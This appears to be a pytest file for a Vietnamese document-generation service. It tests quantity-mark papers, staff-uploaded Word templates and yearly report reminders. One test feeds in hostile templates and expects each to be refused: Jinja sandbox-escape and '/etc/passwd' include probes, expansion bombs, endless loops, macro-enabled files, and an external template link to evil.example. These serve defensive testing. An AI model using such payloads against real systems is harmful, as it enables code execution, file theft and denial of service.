"""Papers of quantity marks: every kind says what rows hold, in DOCX and PDF, leads to its verify page, and no template gets further."""

import io
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pypdfium2
import pytest
import zxingcpp
from docx import Document
from docx.table import Table
from PIL import Image
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from db.engine import Database
from db.files import FileStore
from db.models import Contact, Dossier, DossierEvent, IssuedPaper, MarkEntry, OutboundMessage, Reminder, StoredFile
from domain.errors import (
    DossierMoved,
    FileNotOpened,
    FileTorn,
    FileUnpacksTooLarge,
    FileWithMacros,
    NotADocument,
    OfficeError,
    PaperNotFitting,
    PaperWithoutChat,
    TemplateBroken,
    TemplateLinksOut,
    TemplateUnknownName,
)
from domain.worktime import ZONE
from tests.conftest import NOW
from tests.dossiers import an_officer
from tests.examples import a_dossier
from tests.training import a_contact
from usecases import (
    dossiers,
    mark_registers,
    office,
    paper_making,
    paper_samples,
    quantity_papers,
    quantity_report,
    reminders,
    yearly_reminders,
)
from usecases.opening import Opener
from usecases.paper_layouts import KINDS
from usecases.paper_making import Made
from usecases.paper_templates import ours
from usecases.paper_templates.building import build
from usecases.uploads import WORD, KeptFile

ADDRESS = "https://quay.example"
TODAY = date(2026, 11, 23)
ROW = {"name": "Nước mắm Ưu Hạng", "brand": "Phú Thuận", "packaging": "chai thủy tinh", "state": "liquid", "quantity": "500 ml"} | {
    "numeral_mm": "4",
    "mark_mm": "4",
    "label": "V 500 ml",
    "nominal": "500",
    "unit": "mL",
}


@pytest.fixture(scope="module")
def opener() -> Iterator[Opener]:
    opened = Opener(children=1, seconds=20)
    yield opened
    opened.close()


def text_of(docx: bytes) -> str:
    """Everything that Word shows, tables in their place."""
    found: list[str] = []
    for block in Document(io.BytesIO(docx)).iter_inner_content():
        found += ["\n".join(cell.text for cell in row.cells) for row in block.rows] if isinstance(block, Table) else [block.text]
    return "\n".join(found)


def read_pdf(pdf: bytes) -> tuple[str, list[str]]:
    """The words in one line, and what the codes on it hold."""
    with pypdfium2.PdfDocument(pdf) as document:
        words = " ".join(page.get_textpage().get_text_range() for page in document)
        codes = [code.text for page in document for code in zxingcpp.read_barcodes(page.render(scale=3).to_pil())]
    return " ".join(words.split()), codes


def announced(session: Session, contact: Contact | None = None, **answers: Any) -> Dossier:
    kind = {"announcement_kind": "change" if "old_number" in answers else "first", "packages": [ROW]}
    return a_dossier(session, NOW, "quantity_announcement", contact=contact, **kind | answers)


def entered(session: Session, dossier: Dossier, number: str, on: date = TODAY) -> MarkEntry:
    facts = {"received_on": on, "signer": "Lê Văn Ẩn", "signer_title": "CHI CỤC TRƯỞNG"}
    drafted_by = an_officer(session, NOW) if dossier.kind == "quantity_certificate" else None
    return mark_registers.receive(session, dossier, number=number, staff=an_officer(session, NOW), drafted_by=drafted_by, now=NOW, **facts)


def make(session: Session, files: FileStore, opener: Opener, kind: str, dossier: Dossier) -> Made:
    draft = quantity_papers.draft(session, files, kind, dossier, public_url=ADDRESS, now=NOW)
    return paper_making.make(draft, opener, NOW)


def test_every_kind_says_what_the_rows_hold(database: Database, opener: Opener, tmp_path: Path) -> None:
    files = FileStore(tmp_path)
    with database.write() as session:
        profile = {**office.setting(session, "profile"), "authority": "Sở Khoa học và Công nghệ", "city": "Huế", "signer": "Trần Thị Ý"}
        office.change(session, "profile", profile, source="thử", now=NOW)
    with database.write() as session:
        officer = an_officer(session, NOW)
        first = entered(session, announced(session), "01/2026/TB")
        again = entered(session, announced(session, old_number="01/2026/TB", firm="Công ty “Ngư” & Con <Huế>"), "02/2026/TB")
        asked, refused = announced(session), announced(session)
        dossiers.demand(
            session, asked, [dossiers.Wanted(dossiers.WORDS, "", "Ảnh nhãn bị mờ; chụp lại mặt trước")], staff=officer, reason="", now=NOW
        )
        dossiers.move(session, refused, "wrong_office", staff=officer, words="Trụ sở chính ở Quảng Trị", now=NOW)
        certified = a_dossier(session, NOW, "quantity_certificate", application_kind="first", packages=[ROW])
        dossiers.move(session, certified, "complete", staff=officer, now=NOW)
        given = entered(session, certified, "05/GCN")
        one = session.get_one(Dossier, again.dossier_id)
        assert quantity_papers.fitting(session, one) == ("receipt_sheet", "register_extract", "announcement")
        assert quantity_papers.fitting(session, asked) == ("completion_request", "announcement")
        assert quantity_papers.fitting(session, certified) == ("certificate", "register_extract")
        assert quantity_papers.fitting(session, a_dossier(session, NOW)) == ()
        with pytest.raises(PaperNotFitting):
            make(session, files, opener, "certificate", one)
        firm = quantity_papers.draft_firm_report(session, files, again.organisation, 2026, public_url=ADDRESS, now=NOW)
        yearly = quantity_papers.draft_office_report(session, files, 2026, number="12/BC-TĐC", now=NOW)
        made = {
            **{kind: make(session, files, opener, kind, one) for kind in ("receipt_sheet", "register_extract", "announcement")},
            "completion_request": make(session, files, opener, "completion_request", asked),
            "refusal": make(session, files, opener, "refusal", refused),
            "certificate": make(session, files, opener, "certificate", certified),
            "firm_report": paper_making.make(firm, opener, NOW),
            "office_report": paper_making.make(yearly, opener, NOW),
        }
        links = {key: f"{ADDRESS}/registers/entry/{row.secret}" for key, row in (("again", again), ("given", given))}
        verify = {key: f"{ADDRESS}/verify/{row.secret}" for key, row in (("asked", asked), ("refused", refused))}
    goods = ("Nước mắm Ưu Hạng", "500 ml")
    wanted: dict[str, tuple[str, tuple[str, ...]]] = {
        "receipt_sheet": (
            links["again"],
            (
                "PHIẾU TIẾP NHẬN",
                "đã tiếp nhận công bố",
                "Số tiếp nhận: 02/2026/TB (lần 2), ngày 23/11/2026",
                "Thay thế số 01/2026/TB",
                *goods,
                "không phải giấy phép",
                "Lê Văn Ẩn",
                "Huế, ngày 23 tháng 11 năm 2026",
                "Công ty “Ngư” & Con <Huế>",
            ),
        ),
        "register_extract": (
            links["again"],
            ("TRÍCH SỔ THEO DÕI", "Đã tiếp nhận công bố", "Các lần trước:", first.number, "Đã thay thế", *goods),
        ),
        "announcement": (
            links["again"],
            ("BẢN CÔNG BỐ", "TIẾP NHẬN CỦA CHI CỤC", "02 bản chính", "V 500 ml", "Phương tiện đo sử dụng:", "Kính gửi: Chi cục", *goods),
        ),
        "completion_request": (
            verify["asked"],
            (
                "V/v bổ sung, hoàn chỉnh hồ sơ DL-2026",
                "yêu cầu lần 1",
                "Ảnh nhãn bị mờ; chụp lại mặt trước",
                "đến hết ngày 23/12/2026",
                "chưa xác minh",
                "Trần Thị Ý",
                "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
            ),
        ),
        "refusal": (verify["refused"], ("không đúng nơi tiếp nhận", "Trụ sở chính ở Quảng Trị", "nơi cơ sở đặt trụ sở chính")),
        "certificate": (links["given"], ("GIẤY CHỨNG NHẬN", "Số: 05/GCN", "đến hết ngày 23/11/2031", "nhóm 2", *goods)),
        "firm_report": (links["given"], ("BÁO CÁO", "năm 2026", "02/2026/TB", "05/GCN", "trước ngày 31/01/2027", *goods)),
        "office_report": ("", ("Số: 12/BC-TĐC", "khoản 5 Điều 28", "Ủy ban Tiêu chuẩn Đo lường Chất lượng Quốc gia")),
    }
    assert wanted.keys() == KINDS.keys() == made.keys()
    for kind, (link, sentences) in wanted.items():
        words, codes = read_pdf(made[kind].pdf)
        docx = " ".join(text_of(made[kind].docx).split())
        for sentence in sentences:
            assert sentence in docx, (kind, sentence)
            assert sentence in words, (kind, sentence)
        assert codes == ([link] if link else []), kind
        assert not {sign for sign in ("{{", "{%", "{#", "chưa đối chiếu") if sign in docx}, kind
        with zipfile.ZipFile(io.BytesIO(made[kind].docx)) as archive:
            pictures = [archive.read(name) for name in archive.namelist() if name.startswith("word/media/")]
        assert [code.text for one in pictures for code in zxingcpp.read_barcodes(Image.open(io.BytesIO(one)))] == codes, kind
    assert "giấy phép" not in text_of(made["certificate"].docx)


def test_our_templates_are_what_the_layouts_say(opener: Opener) -> None:
    """After a change: `python -m usecases.paper_templates`."""
    for kind in KINDS.values():
        assert ours(kind) == build(kind), kind.name
        assert all(line.text.startswith("{#p") is bool(kind.form) for line in Document(io.BytesIO(ours(kind))).paragraphs[:1]), kind.name
        full = paper_making.filled(ours(kind), "x.docx", kind, paper_samples.all_of(kind), opener)
        assert "[" in text_of(full)
    with zipfile.ZipFile(io.BytesIO(ours(KINDS["certificate"]))) as archive:
        assert 'w:ascii="Times New Roman"' in archive.read("word/styles.xml").decode()


# templates that staff bring


def written(*paragraphs: str) -> bytes:
    document, made = Document(), io.BytesIO()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.save(made)
    return made.getvalue()


def repacked(change: Callable[[str, bytes], bytes], more: str = "") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(written("{{ firm }}"))) as source, zipfile.ZipFile(made, "w") as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
        if more:
            target.writestr(more, b"x")
    return made.getvalue()


def macro_typed(name: str, content: bytes) -> bytes:
    plain, macro = b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    return content.replace(b"vnd.openxmlformats-officedocument." + plain, b"vnd." + macro) if name == "[Content_Types].xml" else content


def linked_out(name: str, content: bytes) -> bytes:
    link = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    link += b' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    return content.replace(b"</Relationships>", link) if name == "word/_rels/document.xml.rels" else content


LOOPS = ["{%p for a in products %}"] * 12 + ["x"] + ["{%p endfor %}"] * 12
ENDLESS = "{% for a in '0123456789012345678901234567890123456789' %}" * 10 + "{% endfor %}" * 10
"""Forty to the power of ten rounds that print nothing."""


@pytest.mark.parametrize(
    ("content", "refusal", "said"),
    [
        (written("Kính gửi: {{ frim }}"), TemplateUnknownName, "frim|Kính gửi: {{ frim }}"),
        (written("{% for row in products %}{{ row.nmae }}{% endfor %}"), TemplateUnknownName, "nmae"),
        (written("{% if office %}{{ range(9) }}{% endif %}"), TemplateUnknownName, "range"),
        (written("Hết", "{{ firm.__class__.__mro__ }}"), TemplateBroken, "__class__"),
        (written("{{ firm|attr('__class__') }}"), TemplateBroken, "attr"),
        (written("{{ ''.join.__globals__ }}"), TemplateUnknownName, "__globals__"),
        (written("Một", "{%p if firm %}", "Hai"), TemplateBroken, "endif|Một"),
        (written("Tên: {{ firm }"), TemplateBroken, "Tên: {{ firm }"),
        (written("{% include '/etc/passwd' %}"), TemplateBroken, "include"),
        (written("{{ 1 / 0 }}"), TemplateBroken, "division"),
        (written("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"), TemplateBroken, "recursion"),
        (written("{% for a in products %}", "</w:p>", "{%tr endfor %}"), TemplateBroken, ""),
        (written("{{ firm * 1000000000 }}"), FileUnpacksTooLarge, ""),
        (written("{{ [firm * 1000000] | join | upper }}", *LOOPS[:12], "{{ firm * 1000 }}", *LOOPS[-12:]), FileUnpacksTooLarge, ""),
        (repacked(macro_typed), FileWithMacros, ""),
        (repacked(lambda _, content: content, "word/vbaProject.bin"), FileWithMacros, ""),
        (repacked(linked_out), TemplateLinksOut, ""),
        (written("{{ firm }}")[:-700], FileTorn, ""),
        (b"PK\x03\x04 no document", FileTorn, ""),
    ],
)
def test_a_template_that_is_wrong_is_refused_with_what_and_where(
    content: bytes, refusal: type[OfficeError], said: str, opener: Opener
) -> None:
    kind = KINDS["receipt_sheet"]
    with pytest.raises(refusal) as caught:
        quantity_papers.must_render(content, KeptFile("mẫu.docx", "0" * 64, len(content), WORD), kind, opener)
    facts = " ".join(str(fact) for fact in caught.value.facts.values())
    assert all(one in facts for one in said.split("|")), facts


def test_a_template_without_end_is_ended(opener: Opener) -> None:
    quick, kept, kind = Opener(children=1, seconds=8), KeptFile("mẫu.docx", "0" * 64, 1, WORD), KINDS["receipt_sheet"]
    quantity_papers.must_render(written("{{ firm }}"), kept, kind, quick)  # the child is up: what follows is no slow start
    with pytest.raises(FileNotOpened):
        quantity_papers.must_render(written(ENDLESS), kept, kind, quick)
    quick.close()
    assert "Phú Thuận" in text_of(quantity_papers.must_render(written("{{ firm }} {{ qr }}"), kept, kind, opener))
    with pytest.raises(NotADocument):
        quantity_papers.must_render(b"%PDF", KeptFile("a.pdf", "0" * 64, 1, "application/pdf"), kind, opener)


def test_a_replaced_template_makes_the_papers_until_ours_is_back(database: Database, opener: Opener, tmp_path: Path) -> None:
    files, kind = FileStore(tmp_path), KINDS["receipt_sheet"]
    own = written("MẪU RIÊNG CỦA CHI CỤC: {{ firm }}", "{% for row in products %}{{ row.number }}. {{ row.name }}; {% endfor %}")
    with database.write() as session:
        officer = an_officer(session, NOW)
        dossier = announced(session, packages=[ROW, ROW | {"name": "Mắm ruốc"}])
        entered(session, dossier, "07/TB")
        plain = make(session, files, opener, kind.name, dossier)
        quantity_papers.put(session, kind, KeptFile("riêng.docx", files.put(own), len(own), WORD), staff=officer, now=NOW)
        theirs = make(session, files, opener, kind.name, dossier)
        quantity_papers.back_to_ours(session, kind, staff=officer, now=NOW)
        quantity_papers.back_to_ours(session, kind, staff=officer, now=NOW)
        assert [row.name for row in quantity_papers.versions(session, kind.name)] == ["", "riêng.docx"]
        assert text_of(make(session, files, opener, kind.name, dossier).docx) == text_of(plain.docx) != text_of(theirs.docx)
        firm = dossier.firm
    assert f"MẪU RIÊNG CỦA CHI CỤC: {firm}\n1. Nước mắm Ưu Hạng; 2. Mắm ruốc;" in text_of(theirs.docx)
    assert read_pdf(theirs.pdf) == read_pdf(plain.pdf)  # the house's layout, whatever the template


def test_a_paper_of_what_is_past_is_not_kept_and_who_has_no_chat_gets_none(database: Database, tmp_path: Path) -> None:
    files = FileStore(tmp_path)
    with database.write() as session:
        officer, contact = an_officer(session, NOW), a_contact(session, NOW)
        dossier, visitor = announced(session, contact), announced(session)
        draft = quantity_papers.draft(session, files, "announcement", dossier, public_url=ADDRESS, now=NOW)
        unsent = quantity_papers.draft(session, files, "announcement", visitor, public_url=ADDRESS, now=NOW)
        made = Made(b"docx", b"pdf")
        kept = quantity_papers.keep(session, files, made, draft, staff=officer, now=NOW)
        quantity_papers.send(session, kept, staff=officer, now=NOW)
        with pytest.raises(PaperWithoutChat):
            quantity_papers.send(
                session, quantity_papers.keep(session, files, made, unsent, staff=officer, now=NOW), staff=officer, now=NOW
            )
        dossiers.move(session, dossier, "out_of_scope", staff=officer, words="Thuốc", now=NOW)
        with pytest.raises(DossierMoved):
            quantity_papers.keep(session, files, made, draft, staff=officer, now=NOW)
        sent = session.scalars(select(OutboundMessage).where(OutboundMessage.method == "sendDocument")).all()
        assert [row.payload["document"]["name"] for row in sent] == [f"{draft.name}.pdf", f"{draft.name}.docx"]
        assert kept.sent_at == NOW
        assert session.get_one(StoredFile, kept.pdf_sha256).size == 3
        events = select(DossierEvent.kind, DossierEvent.is_internal).where(DossierEvent.dossier_id == dossier.id)
        assert {("paper_made", True), ("paper_sent", True)} <= {tuple(row) for row in session.execute(events)}
        assert session.scalar(select(func.count()).select_from(IssuedPaper)) == 2


# the yearly reports


def a_report(session: Session, year: int, now: datetime, **answers: Any) -> Dossier:
    return a_dossier(session, now, "quantity_report", report_year=year, **answers)


def test_the_office_counts_what_the_registers_and_dossiers_hold(database: Database) -> None:
    new_year = datetime(2027, 1, 15, 9, tzinfo=ZONE)
    with database.write() as session:
        officer = an_officer(session, NOW)
        entered(session, announced(session), "01/TB")
        entered(session, announced(session, old_number="01/TB"), "02/TB")
        other = entered(session, announced(session, tax_code="0100109106", firm="Bột gạo Hương Thủy", packages=[ROW] * 3), "03/TB")
        gone = entered(session, announced(session, tax_code="0301464823", firm="Đã nghỉ"), "04/TB")
        mark_registers.revoke(session, gone, reason="by_request", words="Theo đề nghị", staff=officer, now=NOW)
        announced(session)  # open, late by January
        report = quantity_report.of_year(session, 2026, new_year)
        assert {name: count for name, count in report.figures.items() if count} == {
            **{"first": 3, "again": 1, "revoked": 1, "firms": 2, "products": 4},
            **{"unreported": 2, "filed": 5, "on_time": 4, "late": 1},
        }
        (one,) = report.communes
        assert (len(one[1].firms), one[1].announcements, one[1].products) == (2, 2, 4)
        a_report(session, 2026, new_year, tax_code="0100109106")
        a_report(session, 2025, new_year)
        figures = quantity_report.of_year(session, 2026, new_year).figures
        assert (figures["reported"], figures["unreported"]) == (1, 1)
        assert other.organisation_id in quantity_report.reported_firms(session, 2026)
        mark_registers.revoke(session, mark_registers.lock(session, other.id), reason="violation", words="x", staff=officer, now=new_year)
        assert quantity_report.of_year(session, 2026, new_year).figures["firms"] == 2  # it held at the end of the year
        assert quantity_report.of_year(session, 2025, new_year).figures["firms"] == 0


def test_a_firm_is_reminded_twice_until_it_reported(database: Database) -> None:
    december = datetime(2026, 12, 10, 9, tzinfo=ZONE)
    with database.write() as session:
        contact, other = a_contact(session, NOW), a_contact(session, NOW, chat_id=8)
        entered(session, announced(session, contact), "01/TB")
        entered(session, announced(session, contact, old_number="01/TB"), "02/TB")
        entered(session, announced(session, other, tax_code="0100109106", firm="Bột gạo"), "03/TB")
        entered(session, announced(session, tax_code="0301464823", firm="Không có cuộc trò chuyện"), "04/TB")
        assert yearly_reminders.plan_all(session, NOW) == 0  # too early
        assert (yearly_reminders.plan_all(session, december), yearly_reminders.plan_all(session, december)) == (4, 0)
        its = select(Reminder).where(Reminder.kind == "yearly_report").order_by(Reminder.contact_id, Reminder.due_at)
        due = [one.due_at.astimezone(ZONE) for one in session.scalars(its)]
        assert due == [datetime(2027, 1, 5, 9, tzinfo=ZONE), datetime(2027, 1, 24, 9, tzinfo=ZONE)] * 2
        assert {one.about_at.astimezone(ZONE).date() for one in session.scalars(its)} == {date(2027, 1, 31)}
        reminders.send_due(session, due[0] + timedelta(minutes=1))
        said = session.scalars(select(OutboundMessage).where(OutboundMessage.contact_id == contact.id).order_by(OutboundMessage.id.desc()))
        text = str((last := said.first()) and last.payload)
        assert "Nhắc báo cáo năm 2026" in text
        assert "31/01/2027" in text
        assert "own:report:" in text
        assert "dsb:quantity_report:0" in text
        a_report(session, 2026, due[0], contact=contact)
        assert yearly_reminders.plan_all(session, due[0] + timedelta(days=1)) == 1
        assert [(one.state, one.reason) for one in session.scalars(its)] == [
            ("sent", ""),
            ("dropped", "reported"),
            ("sent", ""),
            ("planned", ""),
        ]
        assert reminders.send_due(session, due[1] + timedelta(minutes=1)) == 1
        assert yearly_reminders.plan_all(session, datetime(2027, 2, 1, tzinfo=ZONE)) == 0
